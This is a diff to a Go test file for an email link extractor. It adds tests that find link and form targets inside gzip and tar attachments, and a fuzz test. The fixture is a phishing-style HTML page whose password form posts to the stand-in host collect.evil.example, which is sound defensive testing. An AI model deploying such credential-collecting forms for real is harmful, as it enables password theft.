@@ -1,8 +1,10 @@
 package links
 
 import (
+	"archive/tar"
 	"archive/zip"
 	"bytes"
+	"compress/gzip"
 	"encoding/base64"
 	"errors"
 	"slices"
@@ -171,4 +173,83 @@ func TestZipLargeFile(t *testing.T) {
 	if !errors.Is(err, ErrPartial) || x.CutBody {
 		t.Errorf("PDF past MaxPartBytes: cut %v, %v; want partial, not cut", x.CutBody, err)
 	}
+}
+
+// gz compresses data, recording name in the header when it is not "".
+func gz(name string, data []byte) []byte {
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	z.Name = name
+	z.Write(data)
+	z.Close()
+	return b.Bytes()
+}
+
+// tarOf builds a tar archive of the given files.
+func tarOf(files map[string]string) []byte {
+	var b bytes.Buffer
+	w := tar.NewWriter(&b)
+	names := make([]string, 0, len(files))
+	for n := range files {
+		names = append(names, n)
+	}
+	slices.Sort(names)
+	for _, n := range names {
+		w.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
+		w.Write([]byte(files[n]))
+	}
+	w.Close()
+	return b.Bytes()
+}
+
+// TestPackedAttachments: gzip and tar attachments (.gz, .tgz, .tar), which
+// Windows opens as folders, are read as zip attachments are: a gzip's one
+// file by the name its header records, else by what it holds; a tar's
+// files by their names; and such archives inside a zip.
+func TestPackedAttachments(t *testing.T) {
+	page := `<html><body><form action="https://collect.evil.example/p"><input type="password"></form></body></html>`
+	for _, tc := range []struct {
+		name, header string
+		archive      []byte
+		want         int
+	}{
+		{"html.gz with its name", "Content-Type: application/gzip; name=\"Remittance.html.gz\"", gz("Remittance.html", []byte(page)), 1},
+		{"html.gz without a name", "Content-Type: application/octet-stream; name=\"Remittance.html.gz\"", gz("", []byte(page)), 1},
+		{"tgz", "Content-Type: application/x-compressed-tar; name=\"r.tgz\"", gz("", tarOf(map[string]string{"docs/Remittance.html": page, "readme.bin": "x"})), 1},
+		{"tar by name", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"r.tar\"", tarOf(map[string]string{"Remittance.htm": page}), 1},
+		{"gz in a zip", "Content-Type: application/zip; name=\"r.zip\"", ooxml(map[string]string{"Remittance.html.gz": string(gz("Remittance.html", []byte(page)))}), 1},
+		{"not gzip", "Content-Type: application/gzip; name=\"r.gz\"", []byte("not a gzip stream"), 0},
+		{"binary in gzip", "Content-Type: application/gzip; name=\"r.gz\"", gz("", []byte{0, 1, 2, 3}), 0},
+	} {
+		x, _ := ExtractAll(zipMail(tc.header, tc.archive), Options{})
+		if len(x.Links) != tc.want {
+			t.Errorf("%s: %d links %+v, want %d", tc.name, len(x.Links), x.Links, tc.want)
+			continue
+		}
+		for _, l := range x.Links {
+			if l.URL != "https://collect.evil.example/p" || !l.InAttachment() || !l.Flags.Has(FlagSubmits) {
+				t.Errorf("%s: link %+v, want the form's target as an archive link", tc.name, l)
+			}
+		}
+	}
+}
+
+// FuzzPacked: any bytes attached as a gzip or tar file give only
+// attachment links, within the link limit, and never an internal error.
+func FuzzPacked(f *testing.F) {
+	f.Add(gz("a.html", []byte(`<form action="https://a.example/"></form>`)))
+	f.Add(tarOf(map[string]string{"b.svg": `<svg><a href="//b.example/"/></svg>`}))
+	f.Fuzz(func(t *testing.T, archive []byte) {
+		for _, h := range []string{"Content-Type: application/gzip", "Content-Type: application/x-tar"} {
+			x, err := ExtractAll(zipMail(h, archive), fuzzOpts)
+			if errors.Is(err, errInternal) || len(x.Links) > fuzzOpts.MaxLinks {
+				t.Fatalf("internal error %v or %d links", err, len(x.Links))
+			}
+			for _, l := range x.Links {
+				if l.Part == "2" && l.Clickable && !l.InAttachment() {
+					t.Fatalf("link %q of kind %s in the archive is rewritable", l.Raw, l.Kind)
+				}
+			}
+		}
+	})
 }
